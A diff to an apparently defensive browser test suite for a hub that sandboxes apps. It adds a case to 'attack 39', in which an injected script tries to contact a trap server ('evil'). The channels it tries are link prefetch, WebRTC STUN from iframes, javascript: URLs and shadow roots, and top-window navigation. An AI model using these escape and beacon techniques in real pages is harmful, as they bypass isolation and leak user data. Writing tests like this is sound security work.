@@ -16,9 +16,9 @@ beforeEach(async () => {
 
 afterEach(() => trap.close());
 
-/** The requests to the hub itself, without the pages of the apps. */
-function hubRequests(): number {
-  return desk.guard.requests.filter((r) => r.startsWith(desk.hub.url)).length;
+/** The requests to the hub itself: without the pages of the apps, and without the parts of the page that come later. */
+function hubRequests(): readonly string[] {
+  return desk.guard.requests.filter((r) => r.startsWith(desk.hub.url) && !r.startsWith(`${desk.hub.url}/assets/`));
 }
 
 it("attack 37: pictures and links in a text load nothing from elsewhere", async () => {
@@ -99,7 +99,7 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
   const session = await desk.hub.rest.newSession("39");
   const page = await desk.tab({ session });
   await settle(desk.hub, session, page);
-  const before = hubRequests();
+  const before = hubRequests().length;
   const script = `
     const hub = ${JSON.stringify(desk.hub.url)}, evil = ${JSON.stringify(trap.url)}, out = {};
     const attempt = async (name, act) => { try { out[name] = String(await act()) } catch (e) { out[name] = "blocked" } };
@@ -123,6 +123,7 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
       await attempt("link", () => { for (const rel of ["prefetch", "preconnect", "stylesheet"]) { const l = document.createElement("link"); l.rel = rel; l.href = evil; document.head.append(l); } });
       await attempt("peer", async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.port}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); await new Promise((ok) => setTimeout(ok, 500)); });
       await attempt("nestedPeer", async () => { for (const src of ["about:blank", "srcdoc", "data:text/html,x", "blob"]) { const f = document.createElement("iframe"); if (src === "srcdoc") f.srcdoc = "x"; else f.src = src === "blob" ? URL.createObjectURL(new Blob(["x"], { type: "text/html" })) : src; document.body.append(f); await new Promise((ok) => setTimeout(ok, 50)); try { const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.port}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); } catch {} } await new Promise((ok) => setTimeout(ok, 300)); });
+      await attempt("scriptedPeer", async () => { const run = "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.port}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"; const within = (root) => { const a = document.createElement("iframe"); a.srcdoc = "<script>" + run + "<" + "/script>"; const b = document.createElement("iframe"); b.src = "javascript:" + run; root.append(a, b); }; within(document.body); const host = document.createElement("div"); document.body.append(host); within(host.attachShadow({ mode: "closed" })); await new Promise((ok) => setTimeout(ok, 500)); });
       await attempt("top", () => { top.location = evil + "/top"; });
       document.documentElement.dataset.out = JSON.stringify(out);
       document.documentElement.dataset.done = "yes";
@@ -140,5 +141,5 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
   expect(trap.caught).toEqual([]);
   expect(page.url()).toContain(desk.hub.url);
   expect(page.context().pages()).toHaveLength(1);
-  expect(hubRequests() - before).toBe(0);
+  expect(hubRequests().slice(before)).toEqual([]);
 });
